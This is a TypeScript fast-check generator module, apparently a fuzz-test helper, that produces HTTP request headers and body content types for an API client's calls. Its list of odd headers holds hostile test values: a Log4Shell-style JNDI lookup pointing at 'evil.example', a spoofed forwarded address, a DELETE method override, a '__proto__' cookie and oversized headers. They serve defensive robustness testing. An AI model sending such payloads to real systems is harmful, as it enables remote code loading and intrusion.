import { applicationClients, product, type Call } from '@loto/api-contract';
import fc from 'fast-check';
import { fuzzText } from './fuzz-texts.ts';
import { mostly } from './mostly.ts';
import { wireSafe } from './wire-text.ts';

export type Header = readonly [string, string];

/** Generates a call's headers, mostly valid ones; some are duplicate or missing. */
export function headersOf({ isIdempotent }: Call): fc.Arbitrary<Header[]> {
  const text = fuzzText.map((each) => wireSafe(each).slice(0, 4000));
  const one = (name: string, good: fc.Arbitrary<string>, weight: number): fc.Arbitrary<Header[]> =>
    mostly(
      good.map((value) => [[name, value] as const]),
      fc.oneof(
        text.map((value) => [[name, value] as const]),
        fc.constant<Header[]>([]),
        fc.tuple(good, text).map(([first, second]) => [[name, first] as const, [name, second] as const]),
      ),
      weight,
    );
  const odd = fc.constantFrom<Header>(
    ['x-forwarded-for', '1.2.3.4, evil'],
    ['x-http-method-override', 'DELETE'],
    ['expect', '100-continue'],
    ['content-encoding', 'gzip'],
    ['accept', 'text/html'],
    ['accept-encoding', 'br;q=a'],
    ['origin', 'null'],
    ['range', 'bytes=0-99999999999'],
    ['if-none-match', '*'],
    ['upgrade', 'websocket'],
    ['te', 'trailers'],
    ['cookie', 'a=b; __proto__=c'],
    ['x-long', 'x'.repeat(9000)],
    ['x-longer', 'x'.repeat(40_000)],
    ['user-agent', '${jndi:ldap://evil.example/a}'],
    ['user-agent', 'a'.repeat(8000)],
  );
  const key = mostly<string>(fc.uuid(), fc.constant('the-same-key-again'));
  return fc
    .tuple(
      one('applicationclient', fc.constantFrom<string>(...applicationClients.slice(0, 3)), 30),
      one('appversion', fc.constant(product.appVersion), 30),
      one('accept-language', fc.constantFrom('ro', 'en'), 9),
      one('authorization', fc.constantFrom('Bearer {token}'), 7),
      isIdempotent === true
        ? one('idempotency-key', key, 9)
        : mostly(
            fc.constant<Header[]>([]),
            key.map((each) => [['idempotency-key', each] as const]),
          ),
      mostly(
        fc.constant<Header[]>([]),
        odd.map((each) => [each]),
        14,
      ),
    )
    .map((parts) => parts.flat());
}

/** Generates content types of a body, mostly JSON; null means none. */
export const contentType: fc.Arbitrary<string | null> = mostly<string | null>(
  fc.constantFrom('application/json', 'application/json; charset=utf-8'),
  fc.constantFrom(
    null,
    '',
    'text/plain',
    'text/xml',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=a',
    'application/json; charset=utf-16',
    'application/vnd.api+json',
    'APPLICATION/JSON',
    'application/json, text/plain',
    '*/*',
    '\u00ff\u00fe',
    ';;;',
  ),
  11,
);
